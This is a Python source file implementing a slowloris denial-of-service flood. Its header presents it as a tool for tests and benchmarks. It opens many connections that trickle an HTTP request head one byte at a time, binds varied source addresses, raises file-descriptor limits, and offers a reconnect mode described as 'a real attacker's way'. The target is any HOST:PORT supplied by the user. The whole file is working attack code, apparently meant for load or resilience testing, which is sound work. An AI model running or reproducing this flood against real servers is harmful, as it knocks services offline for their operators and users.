#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
# slowloris.py - a slowloris flood for tests and benchmarks: many connections
# that trickle a request head one byte at a time and never finish it.
"""slowloris.py HOST:PORT [options]

Opens connections to HOST:PORT and keeps each one busy sending a request
head it never completes: the request line at once, then one header byte per
--interval seconds, for ever. Python standard library only, one thread.

  --many N          N connections from many source addresses: 127.1.X.Y,
                    --per-addr connections each (default 1000)
  --per-addr K      connections per source address for --many (default 4)
  --one N           N more connections, all from --one-addr (default 0)
  --one-addr A      the single source address of --one (default 127.0.0.2)
  --interval S      seconds between two trickled bytes (default 1)
  --reconnect       open a new connection for every one the server closes
                    (the flood then never shrinks; a real attacker's way)
  --duration S      stop after S seconds (default 60)
  --until-closed    stop as soon as the server has closed every connection
                    (only without --reconnect)
  --stats FILE      rewrite FILE with the counters (JSON) every second and at
                    the end; "ready": true once every connection was tried
  --ready-file F    create F once every first connection was tried

Counters: tried, connected, refused (connect failed), closed (by the server:
end of stream or reset), open (connected and not closed), max_open,
open_one (open from --one-addr), elapsed. SIGTERM ends the flood (stats
written). Exit status 0.
"""
import errno
import json
import os
import resource
import selectors
import signal
import socket
import sys
import time


def parse(argv):
    o = {
        "many": 1000,
        "per_addr": 4,
        "one": 0,
        "one_addr": "127.0.0.2",
        "interval": 1.0,
        "reconnect": False,
        "duration": 60.0,
        "until_closed": False,
        "stats": None,
        "ready_file": None,
    }
    args = argv[1:]
    if not args or ":" not in args[0] or args[0].startswith("-"):
        print(__doc__, file=sys.stderr)
        sys.exit(2)
    host, port = args[0].rsplit(":", 1)
    o["target"] = (host, int(port))
    i = 1
    flags = {"--reconnect": "reconnect", "--until-closed": "until_closed"}
    vals = {
        "--many": ("many", int),
        "--per-addr": ("per_addr", int),
        "--one": ("one", int),
        "--one-addr": ("one_addr", str),
        "--interval": ("interval", float),
        "--duration": ("duration", float),
        "--stats": ("stats", str),
        "--ready-file": ("ready_file", str),
    }
    while i < len(args):
        a = args[i]
        if a in flags:
            o[flags[a]] = True
            i += 1
        elif a in vals and i + 1 < len(args):
            k, t = vals[a]
            o[k] = t(args[i + 1])
            i += 2
        else:
            print("slowloris.py: bad argument %r\n%s" % (a, __doc__), file=sys.stderr)
            sys.exit(2)
    return o


def many_addr(n, per):
    k = n // per
    return "127.1.%d.%d" % (k // 250, k % 250 + 1)


class Flood:
    HEAD = b"GET /v2/ HTTP/1.1\r\nHost: flood\r\n"
    TRICKLE = b"X-Slow: 1\r\n"

    def __init__(self, o):
        self.o = o
        self.sel = selectors.DefaultSelector()
        self.c = {"tried": 0, "connected": 0, "refused": 0, "closed": 0, "open": 0, "max_open": 0}
        self.conns = {}  # socket -> [source, connected, trickle position]
        self.t0 = time.monotonic()
        self.stop = False
        self.ready = False

    def open_one(self, src):
        self.c["tried"] += 1
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.bind((src, 0))
            rc = s.connect_ex(self.o["target"])
        except OSError:
            rc = errno.EADDRNOTAVAIL
        if rc not in (0, errno.EINPROGRESS):
            self.c["refused"] += 1
            s.close()
            return
        self.conns[s] = [src, False, 0]
        self.sel.register(s, selectors.EVENT_WRITE | selectors.EVENT_READ)

    def drop(self, s, by_server):
        src, connected, _ = self.conns.pop(s)
        self.sel.unregister(s)
        s.close()
        if connected:
            self.c["open"] -= 1
            if by_server:
                self.c["closed"] += 1
        else:
            self.c["refused"] += 1
        if self.o["reconnect"] and not self.stop:
            self.open_one(src)

    def on_event(self, s, ev):
        st = self.conns.get(s)
        if st is None:
            return
        if not st[1]:
            err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            if err:
                self.drop(s, False)
                return
            st[1] = True
            self.c["connected"] += 1
            self.c["open"] += 1
            self.c["max_open"] = max(self.c["max_open"], self.c["open"])
            self.sel.modify(s, selectors.EVENT_READ)
            try:
                s.send(self.HEAD)
            except OSError:
                self.drop(s, True)
                return
        if ev & selectors.EVENT_READ:
            try:
                b = s.recv(4096)
            except BlockingIOError:
                return
            except OSError:
                b = b""
            if not b:
                self.drop(s, True)
            # an answer (408, 400...) is read and ignored; the close follows

    def trickle(self):
        for s, st in list(self.conns.items()):
            if not st[1]:
                continue
            t = self.TRICKLE
            try:
                s.send(t[st[2] % len(t) : st[2] % len(t) + 1])
                st[2] += 1
            except BlockingIOError:
                pass
            except OSError:
                self.drop(s, True)

    def stats(self, final=False):
        d = dict(self.c)
        d["elapsed"] = round(time.monotonic() - self.t0, 3)
        d["ready"] = self.ready
        d["final"] = final
        d["open_one"] = sum(1 for st in self.conns.values() if st[1] and st[0] == self.o["one_addr"])
        if self.o["stats"]:
            tmp = self.o["stats"] + ".tmp"
            with open(tmp, "w") as f:
                json.dump(d, f)
            os.replace(tmp, self.o["stats"])
        return d

    def run(self):
        o = self.o
        for n in range(o["many"]):
            self.open_one(many_addr(n, o["per_addr"]))
        for _ in range(o["one"]):
            self.open_one(o["one_addr"])
        # let the first connects finish before calling the flood ready
        settle = time.monotonic() + 5
        while time.monotonic() < settle and any(not st[1] for st in self.conns.values()):
            for key, ev in self.sel.select(0.05):
                self.on_event(key.fileobj, ev)
        self.ready = True
        if o["ready_file"]:
            open(o["ready_file"], "w").close()
        self.stats()
        next_trickle = time.monotonic() + o["interval"]
        next_stats = time.monotonic() + 1
        end = self.t0 + o["duration"]
        while not self.stop:
            now = time.monotonic()
            if now >= end:
                break
            if o["until_closed"] and not o["reconnect"] and not self.conns:
                break
            if now >= next_trickle:
                self.trickle()
                next_trickle = now + o["interval"]
            if now >= next_stats:
                self.stats()
                next_stats = now + 1
            wait = max(0.0, min(next_trickle, next_stats, end) - time.monotonic())
            for key, ev in self.sel.select(wait):
                self.on_event(key.fileobj, ev)
        self.stop = True
        d = self.stats(final=True)
        print(json.dumps(d))
        for s in list(self.conns):
            s.close()


def main(argv):
    o = parse(argv)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = o["many"] + o["one"] + 64
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(want, soft)), hard))
    f = Flood(o)

    def on_term(signum, frame):
        f.stop = True

    signal.signal(signal.SIGTERM, on_term)
    signal.signal(signal.SIGINT, on_term)
    f.run()
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
